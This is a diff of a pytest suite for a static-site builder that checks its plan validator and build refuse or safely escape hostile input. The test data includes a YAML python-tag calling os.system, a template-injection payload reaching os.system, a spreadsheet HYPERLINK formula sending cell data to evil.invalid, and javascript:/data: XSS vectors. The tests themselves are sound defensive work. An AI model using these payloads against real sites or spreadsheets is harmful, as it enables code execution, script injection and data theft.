@@ -3,6 +3,7 @@
 Each case asserts what its user would see: the exit status, a `file:line` in the message where a file is at
 fault, no traceback, the site untouched after a failed build, and hostile text published literally, never
 evaluated, in HTML, JSON, CSV and XLSX."""
+
 from __future__ import annotations
 
 import errno
@@ -62,6 +63,7 @@ def _replace(rel: str, old: str, new: str):
         assert old in text
         copy.write(rel, text.replace(old, new, 1))
         return rel
+
     return change
 
 
@@ -69,28 +71,74 @@ def _append(rel: str, extra: str):
     def change(copy) -> str:
         copy.write(rel, copy.read(rel) + extra)
         return rel
+
     return change
 
 
 # (case, change to a copy of plan/, text the offending line contains, words the message must contain)
 YAML_CASES = [
     ("alias-bomb", _append("vocabularies.yaml", BOMB), "x0: &a0", "anchor (&a0) is not allowed"),
-    ("merge-key", _replace("units.yaml", "  - id: commerce\n", "  - id: commerce\n    <<: {x: 1}\n"), "<<: {x: 1}", "merge key"),
+    (
+        "merge-key",
+        _replace("units.yaml", "  - id: commerce\n", "  - id: commerce\n    <<: {x: 1}\n"),
+        "<<: {x: 1}",
+        "merge key",
+    ),
     ("nul-byte", _replace("chapters/2.yaml", "zh: 提升沈阳", "zh: 提升\x00沈阳"), "\x00", "U+0000"),
     ("esc-byte", _replace("chapters/2.yaml", "zh: 提升沈阳", "zh: 提升\x1b沈阳"), "\x1b", "U+001B"),
-    ("zero-width", _replace("chapters/2.yaml", "zh: 提升沈阳", "zh: 提升\u200b沈阳"), "\u200b", "U+200B ZERO WIDTH SPACE"),
-    ("deep-nesting", _replace("units.yaml", "kind: collective", "kind: " + "[" * 10000 + "]" * 10000), "[[[[", "nest more than"),
+    (
+        "zero-width",
+        _replace("chapters/2.yaml", "zh: 提升沈阳", "zh: 提升\u200b沈阳"),
+        "\u200b",
+        "U+200B ZERO WIDTH SPACE",
+    ),
+    (
+        "deep-nesting",
+        _replace("units.yaml", "kind: collective", "kind: " + "[" * 10000 + "]" * 10000),
+        "[[[[",
+        "nest more than",
+    ),
     ("binary-tag", _replace("units.yaml", "kind: collective", "kind: !!binary aGVsbG8="), "!!binary", "explicit tag"),
-    ("python-tag", _replace("units.yaml", "kind: collective", "kind: !!python/object/apply:os.system ['id']"), "!!python", "explicit tag"),
-    ("duplicate-key", _replace("units.yaml", "  - id: commerce\n", "  - id: commerce\n    id: trade\n"), "id: trade", "duplicate key 'id'"),
-    ("huge-int", _replace("targets.yaml", "value: 30\n", f"value: {10 ** 400}\n"), "value: 1000", "a number of 401 digits"),
+    (
+        "python-tag",
+        _replace("units.yaml", "kind: collective", "kind: !!python/object/apply:os.system ['id']"),
+        "!!python",
+        "explicit tag",
+    ),
+    (
+        "duplicate-key",
+        _replace("units.yaml", "  - id: commerce\n", "  - id: commerce\n    id: trade\n"),
+        "id: trade",
+        "duplicate key 'id'",
+    ),
+    (
+        "huge-int",
+        _replace("targets.yaml", "value: 30\n", f"value: {10**400}\n"),
+        "value: 1000",
+        "a number of 401 digits",
+    ),
     ("huge-float", _replace("targets.yaml", "value: 30\n", "value: 1.0e+308\n"), "value: 1.0e+308", "out of range"),
     ("nan", _replace("targets.yaml", "value: 30\n", "value: .nan\n"), "value: .nan", "not a finite number"),
     ("inf", _replace("targets.yaml", "value: 30\n", "value: .inf\n"), "value: .inf", "not a finite number"),
     ("negative", _replace("targets.yaml", "value: 30\n", "value: -30\n"), "value: -30", "expected a number at least 0"),
-    ("id-newline", _replace("units.yaml", "  - id: commerce\n", '  - id: "commerce\\n"\n'), 'id: "commerce', "U+000A LINE FEED"),
-    ("reserved-id", _replace("places.yaml", "  - id: shenyang\n", "  - id: index\n"), "id: index", "'index' is reserved"),
-    ("overlong-text", _replace("chapters/2.yaml", "\n      en: ", "\n      en: " + "x" * 40000), "x" * 100, "the limit for this field is 8,000"),
+    (
+        "id-newline",
+        _replace("units.yaml", "  - id: commerce\n", '  - id: "commerce\\n"\n'),
+        'id: "commerce',
+        "U+000A LINE FEED",
+    ),
+    (
+        "reserved-id",
+        _replace("places.yaml", "  - id: shenyang\n", "  - id: index\n"),
+        "id: index",
+        "'index' is reserved",
+    ),
+    (
+        "overlong-text",
+        _replace("chapters/2.yaml", "\n      en: ", "\n      en: " + "x" * 40000),
+        "x" * 100,
+        "the limit for this field is 8,000",
+    ),
 ]
 
 
@@ -109,8 +157,14 @@ def test_a_directory_named_like_a_chapter(plan_copy):
     assert_clean_failure(validate(plan_copy.dir), "chapters/9.yaml: (document): is a directory")
 
 
-@pytest.mark.parametrize("name, message", [("units.yml", "rename it to units.yaml"), ("notes.txt", "unexpected file"),
-                                           ("chapters/draft.md", "unexpected file")])
+@pytest.mark.parametrize(
+    "name, message",
+    [
+        ("units.yml", "rename it to units.yaml"),
+        ("notes.txt", "unexpected file"),
+        ("chapters/draft.md", "unexpected file"),
+    ],
+)
 def test_files_the_plan_does_not_read_are_refused(plan_copy, name, message):
     (plan_copy.dir / name).write_text("id: x\n", encoding="utf-8")
     assert_clean_failure(validate(plan_copy.dir), f"{name}: (document): unexpected file", message)
@@ -130,10 +184,19 @@ def test_another_plan_directory_says_the_source_is_not_compared(plan_copy):
 
 # ---- make fmt never loses text or comments ------------------------------------------------------------------
 
-@pytest.mark.parametrize("old, new, needle, message", [
-    ("  - id: commerce\n", "  - id: commerce\n    id: trade\n", "id: trade", "duplicate key 'id'"),
-    ("  - id: commerce\n", "  # the provincial commerce department\n  - id: commerce\n", "# the provincial", "a comment"),
-])
+
+@pytest.mark.parametrize(
+    "old, new, needle, message",
+    [
+        ("  - id: commerce\n", "  - id: commerce\n    id: trade\n", "id: trade", "duplicate key 'id'"),
+        (
+            "  - id: commerce\n",
+            "  # the provincial commerce department\n  - id: commerce\n",
+            "# the provincial",
+            "a comment",
+        ),
+    ],
+)
 def test_fmt_refuses_what_it_would_lose_and_writes_nothing(plan_copy, old, new, needle, message):
     units = plan_copy.read("units.yaml").replace(old, new, 1)
     plan_copy.write("units.yaml", units)
@@ -146,6 +209,7 @@ def test_fmt_refuses_what_it_would_lose_and_writes_nothing(plan_copy, old, new, 
 
 
 # ---- the output directory ------------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("out", ["plan", "docs", ".", "docs/site"])
 def test_build_refuses_an_output_directory_that_holds_sources(out):
@@ -167,8 +231,15 @@ def test_build_refuses_a_directory_it_did_not_write(tmp_path):
 
 # ---- operating-system errors and engine tracebacks end in one line ---------------------------------------------
 
-@pytest.mark.parametrize("code, words", [(errno.EROFS, "Read-only file system"), (errno.ENOSPC, "No space left on device"),
-                                         (errno.EACCES, "Permission denied")])
+
+@pytest.mark.parametrize(
+    "code, words",
+    [
+        (errno.EROFS, "Read-only file system"),
+        (errno.ENOSPC, "No space left on device"),
+        (errno.EACCES, "Permission denied"),
+    ],
+)
 def test_os_errors_end_in_one_line(tmp_path, monkeypatch, capsys, code, words):
     from lnplan import build as b
     from lnplan.cli import run_cli
@@ -180,6 +251,7 @@ def test_os_errors_end_in_one_line(tmp_path, monkeypatch, capsys, code, words):
 
     def fail(*args, **kwargs):
         raise OSError(code, os.strerror(code), str(tmp_path / ".build-x"))
+
     monkeypatch.setattr(b.tempfile, "TemporaryDirectory", fail)
     assert run_cli(lambda: b.build(out, SITE_URL, PLAN_DIR)) == 1
     err = capsys.readouterr().err
@@ -190,13 +262,17 @@ def test_os_errors_end_in_one_line(tmp_path, monkeypatch, capsys, code, words):
 def test_an_engine_traceback_is_cut_to_what_went_wrong():
     from lnplan.build import summarize
 
-    output = ("INFO - Building documentation...\nTraceback (most recent call last):\n  File \"x.py\", line 1, in <module>\n"
-              "    f.write(data)\nOSError: [Errno 28] No space left on device\n")
+    output = (
+        'INFO - Building documentation...\nTraceback (most recent call last):\n  File "x.py", line 1, in <module>\n'
+        "    f.write(data)\nOSError: [Errno 28] No space left on device\n"
+    )
     assert summarize(output) == "OSError: [Errno 28] No space left on device"
     # A page that fails to render: the INFO lines before it are dropped, mkdocs-macros' reason is kept.
-    macros = ("INFO - Cleaning site directory\nINFO - The following pages exist in the docs directory, but are not included "
-              "in the nav:\n  - measures/2.1.1.md\nWARNING -  [macros] - ERROR # _Macro Rendering Error_\n\n_File_: "
-              "`measures/2.1.1.md`\n\n_KeyError_: 'x'\n")
+    macros = (
+        "INFO - Cleaning site directory\nINFO - The following pages exist in the docs directory, but are not included "
+        "in the nav:\n  - measures/2.1.1.md\nWARNING -  [macros] - ERROR # _Macro Rendering Error_\n\n_File_: "
+        "`measures/2.1.1.md`\n\n_KeyError_: 'x'\n"
+    )
     assert summarize(macros).startswith("WARNING -  [macros]") and "_File_: `measures/2.1.1.md`" in summarize(macros)
 
 
@@ -214,6 +290,7 @@ def test_a_text_too_long_for_a_spreadsheet_cell_is_never_cut(plan):
 
 # ---- interrupted, killed and concurrent builds -------------------------------------------------------------------
 
+
 def _engines(marker: str) -> list[int]:
     """Processes whose command line mentions marker (an engine building into a given temporary directory)."""
     pids = []
@@ -229,8 +306,14 @@ def _engines(marker: str) -> list[int]:
 
 
 def _start(out: Path) -> subprocess.Popen:
-    return subprocess.Popen([PY, "-m", "lnplan.build", "--out", str(out)], cwd=ROOT, stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True, start_new_session=True)
+    return subprocess.Popen(
+        [PY, "-m", "lnplan.build", "--out", str(out)],
+        cwd=ROOT,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
 
 
 def _temp_with_engines(parent: Path, pid: int, timeout: float = 180) -> Path:
@@ -265,8 +348,14 @@ def build_runs(tmp_path_factory):
     i_out, i_err = interrupted.communicate(timeout=120)
     f_out, f_err = finished.communicate(timeout=900)
     time.sleep(1)
-    return {"parent": parent, "killed_tmp": killed_tmp, "interrupted": (interrupted.returncode, i_out + i_err),
-            "interrupted_tmp": interrupted_tmp, "interrupted_out": interrupted_out, "finished": (finished.returncode, f_out + f_err)}
+    return {
+        "parent": parent,
+        "killed_tmp": killed_tmp,
+        "interrupted": (interrupted.returncode, i_out + i_err),
+        "interrupted_tmp": interrupted_tmp,
+        "interrupted_out": interrupted_out,
+        "finished": (finished.returncode, f_out + f_err),
+    }
 
 
 def test_ctrl_c_exits_130_in_one_line_and_leaves_the_site(build_runs):
@@ -291,11 +380,14 @@ def test_two_builds_at_once_still_work(build_runs):
 
 # ---- hostile text: published literally, never evaluated ------------------------------------------------------------
 
+
 def payload(tag: str, proof: Path) -> str:
     """A spreadsheet formula start, template syntax that would print 49, run a shell command (creating `proof`) and
     drop text if evaluated, and markup that would run a script or make text bold if it were not escaped."""
-    return (f"={tag} {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} "
-            f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <script>alert(1)</script> <b>bold</b> & |x|")
+    return (
+        f"={tag} {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} "
+        f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <script>alert(1)</script> <b>bold</b> & |x|"
+    )
 
 
 FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'
@@ -326,6 +418,7 @@ def hostile(tmp_path_factory):
         put(item["title"], "en", "ITEM-EN")  # the measure page's h1 and title, task cards
         put(item["text"], "en", "TEXT-EN")  # description, JSON-LD, body
         item["text"]["en"] = texts["TEXT-EN"] = "@SUM(1+1) " + item["text"]["en"]  # a formula start in CSV
+
     edit("chapters/2.yaml", chapter2)
 
     def units(d):
@@ -333,21 +426,32 @@ def hostile(tmp_path_factory):
         u["commerce"]["name"]["en"] = FORMULA
         put(u["development-and-reform-commission"]["name"], "en", "UNIT-EN")  # tables, unit page title
         put(u["development-and-reform-commission"]["full_name"], "zh", "UNITFULL-ZH")  # title attributes
+
     edit("units.yaml", units)
     edit("places.yaml", lambda d: put(next(p for p in d["places"] if p["id"] == "dalian")["name"], "en", "PLACE-EN"))
     edit("targets.yaml", lambda d: put(d["targets"][0]["metric"], "en", "METRIC-EN"))
     edit("glossary.yaml", lambda d: put(d["terms"][0]["note"], "en", "NOTE-EN"))
-    edit("document.yaml", lambda d: (put(d["preamble"], "en", "PREAMBLE-EN"), put(d["notice"]["text"], "zh", "NOTICE-ZH")))
+    edit(
+        "document.yaml",
+        lambda d: (put(d["preamble"], "en", "PREAMBLE-EN"), put(d["notice"]["text"], "zh", "NOTICE-ZH")),
+    )
+
     # The payloads replace texts that translation and data corrections describe; keep only the source corrections.
     def corrections(d):
         d["corrections"] = [r for r in d["corrections"] if r["kind"] == "source"]
         put(d["corrections"][0]["reason"], "en", "CORR-EN")  # the corrections page's table
+
     edit("corrections.yaml", corrections)
     edit("places.yaml", lambda d: put(d["sources"][0]["title"], "en", "SOURCE-EN"))  # the map's list of sources
-    edit("place_names.yaml", lambda d: put(next(n for n in d["names"] if n["form"] == "桓仁")["name"], "en", "FORM-EN"))  # card reasons
+    edit(
+        "place_names.yaml", lambda d: put(next(n for n in d["names"] if n["form"] == "桓仁")["name"], "en", "FORM-EN")
+    )  # card reasons
     edit("releases.yaml", lambda d: put(d["releases"][-1]["summary"], "en", "RELEASE-EN"))  # changes page and feed
     # The releases record the corrections they contain: keep those that are still there.
-    edit("releases.yaml", lambda d: [r.__setitem__("corrections", [c for c in r["corrections"] if c <= "C005"]) for r in d["releases"]])
+    edit(
+        "releases.yaml",
+        lambda d: [r.__setitem__("corrections", [c for c in r["corrections"] if c <= "C005"]) for r in d["releases"]],
+    )
     out = root / "site"
     r = run("lnplan.build", "--plan", str(plan_dir), "--out", str(out), timeout=900)
     assert r.returncode == 0, r.stderr
@@ -404,18 +508,33 @@ def test_no_template_in_plan_text_was_evaluated(hostile):
         assert not [e for e in evaluated if e in shown], page
 
 
-@pytest.mark.parametrize("page, tag, where", [
-    ("en/plan/2/index.html", "CH-EN", "title"), ("en/plan/2/index.html", "CH-EN", "h1"),
-    ("en/measures/3.1.1/index.html", "CH-EN", "nav"), ("plan/2/index.html", "CH-ZH", "title"), ("index.html", "CH-ZH", "nav"),
-    ("en/plan/2/index.html", "SEC-EN", "h2"), ("en/measures/2.1.1/index.html", "ITEM-EN", "title"),
-    ("en/measures/2.1.1/index.html", "ITEM-EN", "h1"), ("en/measures/2.1.1/index.html", "TEXT-EN", "description"),
-    ("en/measures/2.1.1/index.html", "TEXT-EN", "p"), ("en/units/development-and-reform-commission/index.html", "UNIT-EN", "title"),
-    ("en/units/index.html", "UNIT-EN", "a"), ("units/index.html", "UNITFULL-ZH", "attribute"),
-    ("en/places/dalian/index.html", "PLACE-EN", "h1"), ("en/targets/index.html", "METRIC-EN", "td"),
-    ("en/glossary/index.html", "NOTE-EN", "td"), ("en/index.html", "PREAMBLE-EN", "description"),
-    ("plan/index.html", "NOTICE-ZH", "p"), ("en/corrections/index.html", "CORR-EN", "td"), ("en/places/index.html", "SOURCE-EN", "li"),
-    ("en/places/benxi/index.html", "FORM-EN", "p"), ("en/changes/index.html", "RELEASE-EN", "p"),
-])
+@pytest.mark.parametrize(
+    "page, tag, where",
+    [
+        ("en/plan/2/index.html", "CH-EN", "title"),
+        ("en/plan/2/index.html", "CH-EN", "h1"),
+        ("en/measures/3.1.1/index.html", "CH-EN", "nav"),
+        ("plan/2/index.html", "CH-ZH", "title"),
+        ("index.html", "CH-ZH", "nav"),
+        ("en/plan/2/index.html", "SEC-EN", "h2"),
+        ("en/measures/2.1.1/index.html", "ITEM-EN", "title"),
+        ("en/measures/2.1.1/index.html", "ITEM-EN", "h1"),
+        ("en/measures/2.1.1/index.html", "TEXT-EN", "description"),
+        ("en/measures/2.1.1/index.html", "TEXT-EN", "p"),
+        ("en/units/development-and-reform-commission/index.html", "UNIT-EN", "title"),
+        ("en/units/index.html", "UNIT-EN", "a"),
+        ("units/index.html", "UNITFULL-ZH", "attribute"),
+        ("en/places/dalian/index.html", "PLACE-EN", "h1"),
+        ("en/targets/index.html", "METRIC-EN", "td"),
+        ("en/glossary/index.html", "NOTE-EN", "td"),
+        ("en/index.html", "PREAMBLE-EN", "description"),
+        ("plan/index.html", "NOTICE-ZH", "p"),
+        ("en/corrections/index.html", "CORR-EN", "td"),
+        ("en/places/index.html", "SOURCE-EN", "li"),
+        ("en/places/benxi/index.html", "FORM-EN", "p"),
+        ("en/changes/index.html", "RELEASE-EN", "p"),
+    ],
+)
 def test_hostile_text_is_shown_literally(hostile, page, tag, where):
     found = parts(hostile["site"], page).get(where, "")
     expected = hostile["texts"][tag]
@@ -437,11 +556,20 @@ def test_hostile_text_in_plan_json_and_csv_is_unchanged_except_the_formula_guard
 
     data = json.loads((hostile["site"] / "data/plan.json").read_text(encoding="utf-8"))
     units = {u["id"]: u for u in data["units"]}
-    assert units["commerce"]["name"]["en"] == FORMULA and units["development-and-reform-commission"]["name"]["en"] == hostile["texts"]["UNIT-EN"]
-    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((hostile["site"] / "data/units.csv").read_text(encoding="utf-8-sig")))}
+    assert (
+        units["commerce"]["name"]["en"] == FORMULA
+        and units["development-and-reform-commission"]["name"]["en"] == hostile["texts"]["UNIT-EN"]
+    )
+    rows = {
+        r["id"]: r
+        for r in csv.DictReader(io.StringIO((hostile["site"] / "data/units.csv").read_text(encoding="utf-8-sig")))
+    }
     assert rows["commerce"]["name_en"] == "'" + FORMULA  # shown as text by Excel, WPS and LibreOffice
     assert rows["development-and-reform-commission"]["name_en"] == "'" + hostile["texts"]["UNIT-EN"]
-    measures = {r["id"]: r for r in csv.DictReader(io.StringIO((hostile["site"] / "data/measures.csv").read_text(encoding="utf-8-sig")))}
+    measures = {
+        r["id"]: r
+        for r in csv.DictReader(io.StringIO((hostile["site"] / "data/measures.csv").read_text(encoding="utf-8-sig")))
+    }
     assert measures["2.1.1"]["text_en"] == "'" + hostile["texts"]["TEXT-EN"]
     tasks = (hostile["site"] / "data/units/commerce.en.csv").read_text(encoding="utf-8-sig")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(tasks)) for cell in row)
@@ -469,10 +597,18 @@ def test_formulas_in_plan_text_are_text_cells_in_xlsx(hostile):
 
     for name in ("tasks.xlsx", "units/commerce.xlsx"):
         wb = openpyxl.load_workbook(hostile["site"] / "data" / name)
-        cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+        cells = [
+            c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
+        ]
         assert cells, name
         assert all(c.data_type == "s" and FORMULA in c.value for c in cells), name
-        starts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("@SUM", "="))]
+        starts = [
+            c
+            for ws in wb
+            for row in ws.iter_rows()
+            for c in row
+            if isinstance(c.value, str) and c.value.startswith(("@SUM", "="))
+        ]
         assert starts and all(c.data_type == "s" for c in starts), name
 
 
@@ -495,8 +631,10 @@ SECRET = "TOKEN-c2VjcmV0-NOT-FOR-LOGS"  # an outside file's only line: never pri
 @contextmanager
 def deadline(seconds: int = 30):
     """Fail, rather than wait, if the block runs longer than `seconds` (a hang is the fault being tested)."""
+
     def expired(signum, frame):
         raise TimeoutError(f"still running after {seconds} s")
+
     previous = signal.signal(signal.SIGALRM, expired)
     signal.alarm(seconds)
     try:
@@ -566,16 +704,27 @@ def assert_build_refused(plan_dir: Path, tmp_path, capsys, *words: str) -> None:
 
 # ---- 1. web addresses: only http(s) with a host, in every URL field; no live scheme on any built page ----------
 
-URL_FIELDS = [("places.yaml", "https://www.geonames.org/"), ("units.yaml", "https://www.shenyang.gov.cn/english/aboutus/"),
-              ("place_names.yaml", "http://www.mca.gov.cn/article/sj/xzqh/2020/"),
-              ("place_names.yaml", "https://3dmxku.com/daquan/zonghe/6992180.html"),
-              ("corrections.yaml", "http://news.cctv.cn/china/20090326/109172.shtml")]
-BAD_URLS = [("javascript:alert(document.cookie)", "only https:// and http://"), ("JaVaScRiPt:alert(1)", "only https:// and http://"),
-            ("data:text/html,<script>alert(1)</script>", "only https:// and http://"), ("vbscript:msgbox(1)", "only https:// and http://"),
-            ("//evil.example/x", "only https:// and http://"), ("https:evil.example", "only https:// and http://"),
-            ("https://", "no host name"), ("https://user:pw@evil.example/", "user name or password"),
-            ("https://www.ln.gov.cn/a b", "contains a space"), ("https://www.ln.gov.cn\\@evil.example/", "contains '\\'"),
-            ("https://沈阳.example/", "contains '沈'"), ("https://www.ln.gov.cn:99999/", "port")]
+URL_FIELDS = [
+    ("places.yaml", "https://www.geonames.org/"),
+    ("units.yaml", "https://www.shenyang.gov.cn/english/aboutus/"),
+    ("place_names.yaml", "http://www.mca.gov.cn/article/sj/xzqh/2020/"),
+    ("place_names.yaml", "https://3dmxku.com/daquan/zonghe/6992180.html"),
+    ("corrections.yaml", "http://news.cctv.cn/china/20090326/109172.shtml"),
+]
+BAD_URLS = [
+    ("javascript:alert(document.cookie)", "only https:// and http://"),
+    ("JaVaScRiPt:alert(1)", "only https:// and http://"),
+    ("data:text/html,<script>alert(1)</script>", "only https:// and http://"),
+    ("vbscript:msgbox(1)", "only https:// and http://"),
+    ("//evil.example/x", "only https:// and http://"),
+    ("https:evil.example", "only https:// and http://"),
+    ("https://", "no host name"),
+    ("https://user:pw@evil.example/", "user name or password"),
+    ("https://www.ln.gov.cn/a b", "contains a space"),
+    ("https://www.ln.gov.cn\\@evil.example/", "contains '\\'"),
+    ("https://沈阳.example/", "contains '沈'"),
+    ("https://www.ln.gov.cn:99999/", "port"),
+]
 
 
 @pytest.mark.parametrize("bad, words", BAD_URLS, ids=[b for b, _ in BAD_URLS])
@@ -589,13 +738,20 @@ def test_every_url_field_takes_only_web_addresses(plan_copy, capsys):
         plan_copy.write(rel, plan_copy.read(rel).replace(good, f"javascript:alert({k})", 1))
     r = cli(capsys, "validate", "--plan", str(plan_copy.dir))
     for k, (rel, good) in enumerate(URL_FIELDS):
-        refused(r, f"{rel}:{line_col(texts[rel], good)}:", f'"javascript:alert({k})" is not a web address the site can link to',
-                "only https:// and http://", "write an address that begins with https://")
+        refused(
+            r,
+            f"{rel}:{line_col(texts[rel], good)}:",
+            f'"javascript:alert({k})" is not a web address the site can link to',
+            "only https:// and http://",
+            "write an address that begins with https://",
+        )
     assert [c for c in checks.url_problem("https://www.ln.gov.cn/a%20b?x=1#y") or ""] == []
 
 
 def test_a_javascript_source_is_refused_before_the_build_and_site_is_unchanged(plan_copy, tmp_path, capsys):
-    plan_copy.write("places.yaml", plan_copy.read("places.yaml").replace("https://www.geonames.org/", "javascript:alert(1)"))
+    plan_copy.write(
+        "places.yaml", plan_copy.read("places.yaml").replace("https://www.geonames.org/", "javascript:alert(1)")
+    )
     assert_build_refused(plan_copy.dir, tmp_path, capsys, "places.yaml:", "javascript:alert(1)", "nothing was built")
 
 
@@ -612,18 +768,31 @@ def test_every_url_property_of_the_schema_is_checked_as_a_web_address():
         elif isinstance(node, list):
             for i, v in enumerate(node):
                 yield from walk(v, f"{path}/{i}")
-    plan_defs = {k: v for k, v in schema["$defs"].items() if not k.startswith(("export", "api"))}  # what plan files hold
+
+    plan_defs = {
+        k: v for k, v in schema["$defs"].items() if not k.startswith(("export", "api"))
+    }  # what plan files hold
     found = dict(walk(plan_defs, ""))
     assert len(found) >= 4 and all(f == "uri" for f in found.values()), found
-    assert not checks.FORMATS.conforms("javascript:alert(1)", "uri") and checks.FORMATS.conforms("https://www.ln.gov.cn/", "uri")
+    assert not checks.FORMATS.conforms("javascript:alert(1)", "uri") and checks.FORMATS.conforms(
+        "https://www.ln.gov.cn/", "uri"
+    )
 
 
-LIVE = ['<a href="javascript:alert(1)">x</a>', '<a href=" JaVa&#9;ScRiPt:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
-        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">', '<a href="vbscript:msgbox(1)">x</a>',
-        '<img srcset="a.png 1x, data:image/png;base64,AAAA 2x" alt="">', '<form action="javascript:alert(1)"></form>',
-        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
-        '<object data="data:text/html,<script>alert(1)</script>"></object>', '<p onclick="alert(1)">x</p>',
-        '<link rel="alternate" href="javascript:alert(1)">']
+LIVE = [
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" JaVa&#9;ScRiPt:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<img srcset="a.png 1x, data:image/png;base64,AAAA 2x" alt="">',
+    '<form action="javascript:alert(1)"></form>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    '<p onclick="alert(1)">x</p>',
+    '<link rel="alternate" href="javascript:alert(1)">',
+]
 
 
 @pytest.mark.parametrize("html", LIVE)
@@ -637,6 +806,7 @@ def test_checksite_fails_a_page_with_live_code_in_an_address(tmp_path, capsys, h
 
 
 # ---- 2. symbolic links, FIFOs and devices: refused before they are opened; outside files never printed ----------
+
 
 def test_a_link_to_an_outside_secret_is_refused_and_the_secret_never_printed(plan_copy, outside, tmp_path, capsys):
     (plan_copy.dir / "glossary.yaml").unlink()
@@ -652,7 +822,9 @@ def test_a_link_to_an_outside_secret_is_refused_and_the_secret_never_printed(pla
 def test_a_link_to_valid_yaml_elsewhere_is_not_plan_data(plan_copy, outside, capsys):
     (plan_copy.dir / "glossary.yaml").unlink()
     (plan_copy.dir / "glossary.yaml").symlink_to(outside / "glossary.yaml")
-    (outside / "glossary.yaml").write_text((outside / "glossary.yaml").read_text(encoding="utf-8").replace("\n  ", "\n"), encoding="utf-8")
+    (outside / "glossary.yaml").write_text(
+        (outside / "glossary.yaml").read_text(encoding="utf-8").replace("\n  ", "\n"), encoding="utf-8"
+    )
     before = (outside / "glossary.yaml").read_bytes()
     refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), "glossary.yaml: ", "is a symbolic link")
     refused(cli(capsys, "fmt", "--plan", str(plan_copy.dir)), "glossary.yaml: ", "is a symbolic link")
@@ -722,6 +894,7 @@ def test_a_link_among_the_files_the_engines_copy_is_refused(tmp_path, outside, c
 
 # ---- 3. FIFOs, /dev/zero and huge files: never waited on, never read past the limit --------------------------------
 
+
 @pytest.mark.parametrize("command", [("validate",), ("fmt", "--check"), ("punctuation", "--check")])
 def test_a_fifo_or_dev_zero_as_a_plan_file_ends_at_once(plan_copy, capsys, command):
     (plan_copy.dir / "glossary.yaml").unlink()
@@ -754,23 +927,37 @@ def test_reads_stop_one_byte_past_the_limit(monkeypatch):
 
 def test_a_sparse_huge_file_is_refused_without_reading_it(plan_copy, capsys):
     with open(plan_copy.dir / "units.yaml", "r+b") as f:
-        f.truncate(8 * 1024 ** 3)  # 8 GiB, nothing written
-    refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), "units.yaml: ", "file is 8,589,934,592 bytes", "limited to 2,097,152")
+        f.truncate(8 * 1024**3)  # 8 GiB, nothing written
+    refused(
+        cli(capsys, "validate", "--plan", str(plan_copy.dir)),
+        "units.yaml: ",
+        "file is 8,589,934,592 bytes",
+        "limited to 2,097,152",
+    )
 
 
 # ---- 4. linear checks: the worst files we could construct end in seconds (make bench times them) -----------------
 
+
 def test_a_long_list_mixing_a_number_with_ids_is_checked_at_once(plan_copy, capsys):
     """jsonschema compared every pair of such items: 65 s for 40,000 (issue 17)."""
     ids = "".join(f"          - p{i:05d}\n" for i in range(40_000))
-    plan_copy.write("chapters/2.yaml", plan_copy.read("chapters/2.yaml").replace("        places:\n          - shenyang\n",
-                                                                                 "        places:\n          - 1\n" + ids + "          - p00007\n", 1))
+    plan_copy.write(
+        "chapters/2.yaml",
+        plan_copy.read("chapters/2.yaml").replace(
+            "        places:\n          - shenyang\n",
+            "        places:\n          - 1\n" + ids + "          - p00007\n",
+            1,
+        ),
+    )
     r = cli(capsys, "validate", "--plan", str(plan_copy.dir), seconds=20)
     refused(r, "chapters/2.yaml:", "wrong type: got int 1")
     v = checks.validator("places", json.loads((ROOT / "schema" / "plan.schema.json").read_text(encoding="utf-8")))
     errors = list(v.iter_errors(["a", "b", 1, "a", 1.0, True]))
     assert [(list(e.path), e.message) for e in errors if e.validator == "uniqueItems"] == [
-        ([3], '"a" is listed twice (first at [0]); list each once'), ([4], "1.0 is listed twice (first at [2]); list each once")]
+        ([3], '"a" is listed twice (first at [0]); list each once'),
+        ([4], "1.0 is listed twice (first at [2]); list each once"),
+    ]
 
 
 def test_many_comment_lines_are_found_at_once(plan_copy, capsys):
@@ -782,8 +969,12 @@ def test_many_comment_lines_are_found_at_once(plan_copy, capsys):
 
 
 def test_a_file_with_too_many_values_is_refused_where_the_limit_is_passed(plan_copy, capsys):
-    plan_copy.write("chapters/2.yaml", plan_copy.read("chapters/2.yaml").replace(
-        "        places:\n          - shenyang\n", "        places: [" + "a," * 200_500 + "a]\n", 1))
+    plan_copy.write(
+        "chapters/2.yaml",
+        plan_copy.read("chapters/2.yaml").replace(
+            "        places:\n          - shenyang\n", "        places: [" + "a," * 200_500 + "a]\n", 1
+        ),
+    )
     r = cli(capsys, "validate", "--plan", str(plan_copy.dir), seconds=30)
     refused(r, "chapters/2.yaml:", "more than 200,000 values")
 
@@ -793,13 +984,21 @@ def test_the_plan_files_together_hold_a_limited_number_of_values(plan_copy, caps
     for rel in ("units.yaml", "places.yaml"):  # read in this order, after document.yaml
         plan_copy.write(rel, plan_copy.read(rel) + "extra: [" + "1," * 130_000 + "1]\n")
